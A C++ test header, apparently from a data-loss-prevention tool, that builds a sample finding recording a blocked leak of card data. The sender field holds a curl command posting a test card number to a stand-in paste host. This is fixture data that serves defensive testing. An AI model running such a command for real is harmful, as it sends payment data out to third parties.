// SPDX-License-Identifier: Apache-2.0
// One finding with every field set, for the tests of telling.
#pragma once

#include <chrono>

#include "model/finding.h"

namespace sluice::test {

/// 2026-11-24T12:03:55Z
inline constexpr WallTime kNoon{std::chrono::seconds{1'795'521'835}};

inline Finding sample_finding() {
  Finding finding;
  finding.id = "00c0ffee00c0ffee";
  finding.first = kNoon;
  finding.last = kNoon;
  finding.decision = {.verdict = Verdict::would_block,
                      .rule = "violations.card",
                      .nearest = "charge-cards",
                      .reason = "no flow lets card leave to 203.0.113.9:80"};
  finding.data_class = "card";
  finding.detectors = {"payment_card"};
  finding.values = 1;
  finding.masked = {"************1111"};
  finding.fingerprints = {Fingerprint{0x1234}};
  finding.location = "raw";
  finding.sender = {.pid = Tgid{812},
                    .start_ns = 1,
                    .exe = "/usr/bin/curl",
                    .args = "curl -d card=4111111111111111 http://paste.example/",
                    .comm = "curl",
                    .uid = Uid{1000},
                    .gid = Gid{1000},
                    .user = "alice",
                    .groups = {"alice", "staff"},
                    .cgroup = "/user.slice/user-1000.slice/session-3.scope",
                    .unit = "session-3.scope",
                    .parent = Tgid{700},
                    .parent_exe = "/usr/bin/bash"};
  finding.destination = {.endpoint = {*IpAddress::parse("203.0.113.9"), 80}, .name = {}};
  finding.flow.key.cookie = SocketCookie{4711};
  finding.flow.local = {*IpAddress::parse("192.0.2.5"), 40'122};
  finding.flow.remote = finding.destination.endpoint;
  finding.flow.netns = 4'026'531'840;
  finding.ledger = {.sent = 180, .inspected = 180, .opaque = 0, .uninspected = 0, .trusted = 0};
  finding.policy_hash = "8c1f0a6be9d2";
  return finding;
}

}  // namespace sluice::test
